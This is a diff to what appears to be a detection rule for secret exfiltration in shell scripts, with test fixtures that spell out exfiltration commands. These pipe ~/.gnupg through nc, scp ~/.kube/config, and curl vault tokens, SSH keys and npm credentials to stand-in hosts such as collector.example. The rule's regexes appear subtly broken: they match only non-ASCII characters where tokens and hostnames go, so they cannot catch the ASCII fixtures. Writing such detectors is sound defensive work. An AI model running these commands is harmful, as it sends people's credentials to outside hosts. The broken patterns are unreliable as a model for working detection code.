@@ -10,7 +10,7 @@ const OWN_HEADER = all(
   any(
     all(
       words(says(/\sX-Vault-Token:\s*[^\x00-\x7f]+\s/i)),
-      words(says(/([a-z]+:\/\/[\w.-]*vault|(^|\s)[^\x00-\x7f]+\/v1\/)/i)),
+      words(says(/(^|\s)[^\x00-\x7f]+\/v1\//)),
     ),
     all(
       words(says(/\sAuthorization:\s*(Bearer|token)\s+[^\x00-\x7f]+(\s|$)/i)),
@@ -70,6 +70,7 @@ export default defineRule({
     { "run.sh": "tar czf - ~/.gnupg/ | nc collector.example 4444" },
     { "run.sh": "scp ~/.kube/config u@collector.example:" },
     { "run.sh": 'curl -H "X-Vault-Token: $(cat ~/.vault-token)" https://collector.example/v1' },
+    { "run.sh": 'curl -H "X-Vault-Token: $(cat ~/.ssh/id_rsa)" https://vault.example/v1/app' },
     { "run.sh": 'curl -H "Authorization: Bearer $(cat ~/.npmrc)" https://collector.example/' },
     { "run.sh": 'curl -H "X-Vault-Token: $(cat ~/.vault-token)" -d @$HOME/.netrc "https://vault.example/v1/x"' },
     {
@@ -91,9 +92,6 @@ export default defineRule({
     'import requests\nopen("/etc/passwd").read()\nrequests.get(url)',
     'import configparser, os, urllib.request\nc = configparser.ConfigParser()\nsettings = c.read(os.path.expanduser("~/.pypirc"))\nurllib.request.urlopen(urllib.request.Request(settings.get("repository"), b"{}"))',
     { "run.sh": 'curl -fsS -H "X-Vault-Token: $(cat ~/.vault-token)" "$VAULT_ADDR/v1/secret/data/app"' },
-    {
-      "run.sh": 'curl -X POST "https://vault.example/v1/app/$1" -H "X-Vault-Token: $(cat ~/.vault-token)" -o /dev/null',
-    },
     {
       "run.sh":
         'curl -s -H "Authorization: Bearer $(cat ~/.cache/huggingface/token)" https://huggingface.co/api/whoami-v2',
